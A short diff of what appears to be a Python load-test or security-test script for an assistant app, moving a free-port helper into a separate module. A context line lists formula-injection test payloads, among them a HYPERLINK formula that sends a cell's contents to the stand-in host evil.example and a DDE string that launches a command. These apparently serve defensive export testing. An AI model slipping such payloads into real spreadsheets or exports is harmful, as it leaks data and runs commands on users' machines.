@@ -23,17 +23,10 @@ from pathlib import Path
 import httpx
 
 from assistant.launch import start_app
+from load import free_port  # bench/load.py, beside this script
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&B2,"Klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "\r=1+2", "\t=1+2"]
 FEEDBACK_LIMIT = "100/minute"
-
-
-def free_port() -> int:
-    import socket
-
-    with socket.socket() as probe:
-        probe.bind(("127.0.0.1", 0))
-        return probe.getsockname()[1]
 
 
 def p95(values: list[float]) -> float:
